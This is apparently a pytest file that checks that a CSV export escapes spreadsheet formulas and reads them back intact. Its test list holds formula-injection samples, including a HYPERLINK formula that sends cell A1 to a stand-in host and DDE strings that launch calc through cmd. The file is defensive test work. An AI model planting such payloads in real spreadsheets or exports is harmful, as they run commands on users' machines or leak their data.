"""Cells that a spreadsheet would run are shown by it, and come back as they were printed."""

from dataclasses import replace
from pathlib import Path

import pytest

from storage.importing.folder.formulas import shielded, unshielded
from storage.importing.folder.reader import read_folder
from storage.importing.folder.writer import write_folder
from tests.support.paths import DATA

RUN = [
    '=HYPERLINK("http://x/?"&A1,"Xem")',
    "=1+1",
    "= 1+1",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    "''=1",
]
SHOWN = ["=;=", "=;>", "=", "-", "- Xây dựng quy chế (mới)", "-5%", "'abc'", "≥85", "", "+ Rà soát"]


@pytest.mark.parametrize("cell", RUN)
def test_what_would_run_is_shielded_and_comes_back(cell: str) -> None:
    assert shielded(cell) == f"'{cell}"
    assert unshielded(shielded(cell)) == cell


@pytest.mark.parametrize("cell", SHOWN)
def test_what_is_only_printed_so_stays(cell: str) -> None:
    assert shielded(cell) == unshielded(cell) == cell


def test_a_folder_with_such_a_title_is_read_back_as_it_was(tmp_path: Path) -> None:
    folder = read_folder(DATA / "ben-tre")
    first, *others = folder.items
    title = RUN[0]
    harmful = replace(folder, items=(replace(first, title=title, title_raw=title), *others))
    write_folder(harmful, {}, tmp_path / "x")
    written = (tmp_path / "x" / "items.csv").read_text("utf-8")
    assert ",\"'=HYPERLINK" in written
    assert ',"=HYPERLINK' not in written
    assert read_folder(tmp_path / "x") == harmful
